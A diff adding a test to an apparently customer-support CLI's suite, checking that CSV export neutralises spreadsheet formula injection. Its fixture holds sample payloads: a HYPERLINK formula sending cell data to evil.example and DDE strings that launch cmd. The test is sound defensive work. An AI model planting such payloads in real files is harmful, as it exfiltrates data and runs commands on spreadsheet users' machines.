@@ -427,3 +427,25 @@ def test_markdown_with_out_writes_one_dossier_per_customer(rich_db, tmp_path, ca
 def test_markdown_to_stdout_needs_exactly_one_customer(rich_db, capsys):
     code, out, err = oncall(capsys, "--db", rich_db, "export", "--format", "md")
     assert code == 2 and "--customer" in err and out == ""
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text(tmp_path, capsys):
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")', "+33 6 12 34 56 78", "-- urgent --",
+                "@SUM(1+1)*cmd|' /C calc'!A0"]
+    doc = {"customers": [{"id": "c-1", "name": "=cmd|' /C calc'!A0", "language": "fr"}],
+           "cases": [{"id": "T-1", "customer": "c-1", "subject": formulas[0], "status": "open",
+                      "opened_at": "2026-11-24T08:00:00Z",
+                      "events": [ev(f"2026-11-24T08:0{i}:00Z", "message", "in", "client", body, "email")
+                                 for i, body in enumerate(formulas)]}]}
+    path = tmp_path / "doc.json"
+    path.write_text(json.dumps(doc), encoding="utf-8")
+    db = tmp_path / "o.db"
+    assert oncall(capsys, "--db", db, "import", path)[0] == 0
+    assert oncall(capsys, "--db", db, "export", "--format", "csv", "--out", tmp_path / "csv")[0] == 0
+    assert read_csv(tmp_path / "csv" / "customers.csv")[0]["name"] == "'=cmd|' /C calc'!A0"
+    assert read_csv(tmp_path / "csv" / "cases.csv")[0]["subject"] == "'" + formulas[0]
+    bodies = sorted(e["body"] for e in read_csv(tmp_path / "csv" / "events.csv"))
+    assert bodies == sorted("'" + f for f in formulas)
+    # The interchange JSON keeps the customer's words exactly.
+    code, out, _ = oncall(capsys, "--db", db, "export", "--format", "json")
+    assert code == 0 and json.loads(out)["cases"][0]["subject"] == formulas[0]
